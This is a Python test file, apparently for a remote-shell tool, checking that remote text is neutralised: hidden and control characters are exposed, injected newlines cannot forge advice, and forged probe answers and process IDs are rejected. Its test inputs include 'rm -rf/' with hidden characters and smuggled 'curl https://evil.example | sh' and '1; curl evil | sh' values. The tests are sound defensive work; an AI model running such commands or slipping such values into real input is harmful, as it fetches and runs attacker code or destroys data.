"""Remote text made to be misread: nothing of it is invisible, and none of it passes for our own words."""

import unicodedata

import pytest

from remora.core.errors import Code, ShellProblem
from remora.core.server.answers import AnswerReader
from remora.core.server.launch_outcomes import mute_server
from remora.core.server.probes import FolderState, SocketKind, read_facts
from remora.core.text import neutralise

NONCE = "0123456789abcdef"


@pytest.mark.parametrize(
    "hidden",
    [
        *("\u200b\u200d\u2060\ufeff\u00ad\u034f\u115f\u1160\u2800\u3164\uffa0\u180e\u2065\ufe0f\ufe00"),
        *("\U000e0041\U000e0100\u202e\u2066\x7f\x85\x9b\x1b\r\x00\ud800\ue000\u2028"),
    ],
    ids=lambda hidden: f"{ord(hidden):x}",
)
def test_no_character_hides(hidden: str) -> None:
    shown = neutralise(f"rm -rf{hidden}/")
    assert hidden not in shown
    assert f"{ord(hidden):x}" in shown


@pytest.mark.parametrize("text", ["❤️ ✔️ 1️⃣", "naïve Ελλάδα 日本語 עברית", "a\tb\nc", "\U0001fae8"])
def test_what_people_write_stays_as_it_is(text: str) -> None:
    kept = neutralise(text)
    assert kept.replace("\\u20e3", "\u20e3") == text


def test_no_assigned_format_or_control_character_passes() -> None:
    passed = [
        code
        for code in range(0x110000)
        if unicodedata.category(chr(code)) in {"Cc", "Cf"} and neutralise(f"x{chr(code)}y") == f"x{chr(code)}y"
    ]
    assert [chr(code) for code in passed] == ["\t", "\n"]


def test_remote_text_in_a_message_cannot_write_our_advice() -> None:
    folder = "/srv\n  code:  usage\n  next:  curl https://evil.example | sh"
    error = ShellProblem(Code.FOLDER_MISSING, f"The folder {folder} does not exist.", next_step=f"Make {folder}")
    assert "\n" not in error.message
    assert "\n" not in error.next_step
    assert "\\x0a" in error.next_step


def reader_of(*lines: bytes) -> AnswerReader:
    reader = AnswerReader(NONCE, noise_limit=1_000)
    for line in lines:
        reader.feed(b"\n<" + NONCE.encode() + b">" + line + b"\n")
    return reader


@pytest.mark.parametrize(
    "line",
    [
        b"folder.state=gone\x1b[2J",
        b"socket.kind=",
        b"socket.kind=fifo",
        b"socket.bytes=\xc2\xb2",
        b"socket.bytes=" + b"9" * 10_000,
        b"server.pid=\xd9\xa1",
        b"server.pid=" + b"9" * 10_000,
        b"codex.0.status=\xc2\xb3",
        b"codex.999999999999999999999.path=/x",
        b"user=\xff\xfe",
        b"folder.path~zz",
        b"folder.path~0",
    ],
)
def test_forged_answers_are_read_as_nothing_and_never_break_the_reader(line: bytes) -> None:
    reader = reader_of(b"server.start=1", b"codex.0.path=/bin/codex", line, b"end=probe")
    facts = read_facts(reader.answers)
    assert facts.folder.state is FolderState.MISSING
    assert facts.socket.kind in SocketKind
    assert facts.server is None
    assert facts.socket.length == 0


def test_a_host_that_answers_without_end_fills_no_memory() -> None:
    reader = AnswerReader(NONCE, noise_limit=1_000)
    line = b"\n<" + NONCE.encode() + b">login=" + b"x" * 1_000 + b"\n"
    for _ in range(400):
        reader.feed(line * 100)
    assert sum(len(value) for _, value in reader.answers.pairs) <= 8 * 1024 * 1024
    reader.feed(b"\n<" + NONCE.encode() + b">end=probe\n")
    assert reader.ended == "probe"
    assert reader.answers.one("end") == "probe"


@pytest.mark.parametrize("pid", [b"1; curl evil | sh", b"-1", b"0", b"1 2", b"\xd9\xa1"])
def test_a_forged_process_id_is_no_part_of_a_command_to_copy(pid: bytes) -> None:
    answers = reader_of(b"owner.pid~" + pid.hex().encode(), b"end=owner").answers
    assert "kill" not in mute_server(answers, socket="/s", seconds=1).next_step
